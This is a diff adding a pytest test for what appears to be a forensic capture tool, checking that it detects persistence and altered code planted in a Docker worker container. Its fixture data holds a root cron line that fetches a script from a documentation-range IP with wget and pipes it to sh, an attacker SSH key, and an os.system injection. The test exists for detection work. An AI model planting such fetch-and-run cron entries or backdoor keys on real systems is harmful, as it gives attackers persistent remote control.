@@ -138,3 +138,56 @@ def test_a_deleted_miner_and_a_listener_in_bookgen_api_are_found_once_naming_the
             except ProcessLookupError:
                 pass
         api.exec_run(["rm", "-rf", "/tmp/.x"])
+
+
+WORKER_PLANTS = {
+    "/etc/cron.d/sys-update": ("cron", "* * * * * root wget -qO- http://203.0.113.9/u | sh\n"),
+    "/var/spool/cron/crontabs/root": ("cron", "*/5 * * * * /tmp/.u\n"),
+    "/root/.ssh/authorized_keys": ("authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkd attacker@x\n"),
+    "/usr/local/lib/python3.12/site-packages/bookgen/tasks.py": ("application code", "import os; os.system('id')\n"),
+}
+
+
+@pytest.mark.parametrize("daemon", ["answering", "hung"])
+def test_persistence_and_changed_code_in_the_worker_are_copied_and_found_once(running_stack, out_dir, team_key,
+                                                                               daemon):
+    """Through the API's diff, or with dockerd stopped (SIGSTOP) from the data root's upper directory; Docker's
+    own placeholders (the redis config's bind-mount target, /etc/hosts...) are never findings."""
+    identity, recipient = team_key
+    worker = running_stack.container("worker")
+    script = " && ".join("mkdir -p %s && printf '%%s' '%s' > %s" % (os.path.dirname(path), text.replace("'", "'\\''"),
+                                                                  path) for path, (_, text) in WORKER_PLANTS.items())
+    assert worker.exec_run(["sh", "-c", script]).exit_code == 0
+    engine = running_stack.engine
+    try:
+        if daemon == "hung":
+            os.kill(engine.process.pid, signal.SIGSTOP)
+        done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--only", "containers",
+                   "--docker-root", str(engine.root / "data"), env={"DOCKER_HOST": engine.url}, timeout=300)
+    finally:
+        if daemon == "hung":
+            os.kill(engine.process.pid, signal.SIGCONT)
+        worker.exec_run(["rm", "-rf", *WORKER_PLANTS, "/usr/local/lib/python3.12"])
+    assert done.returncode in (0, 6), done.stderr
+    result = json.loads(done.stdout)
+    tar = _payload_tar(identity, result["payload"])
+    index = json.loads(tar.extractfile("containers/index.json").read())
+    assert index.get("fallback", False) is (daemon == "hung")
+    named = _naming_a_container(result["findings"])
+    assert sorted(f["id"] for f in named) == ["container-code-changed", "container-persistence"], named
+    for finding in named:
+        details = finding["details"]
+        assert (details["container"], details["service"]) == ("bookgen-worker", "worker")
+        assert "in container bookgen-worker (service worker" in finding["title"]
+        for row in details["changes"]:
+            assert WORKER_PLANTS[row["path"]][0] == row["kind"]
+            assert row["copy"] in finding["evidence"]
+            copied = tar.extractfile(row["copy"]).read()
+            if daemon == "answering":  # a tar of the file, as `docker cp` gives it
+                copied = tarfile.open(fileobj=io.BytesIO(copied)).extractfile(os.path.basename(row["path"])).read()
+            assert copied.decode() == WORKER_PLANTS[row["path"]][1]
+    persistence = next(f for f in named if f["id"] == "container-persistence")
+    assert sorted(persistence["details"]["paths"]) == sorted(p for p, (k, _) in WORKER_PLANTS.items()
+                                                             if k != "application code")
+    code = next(f for f in named if f["id"] == "container-code-changed")
+    assert code["details"]["paths"] == ["/usr/local/lib/python3.12/site-packages/bookgen/tasks.py"]
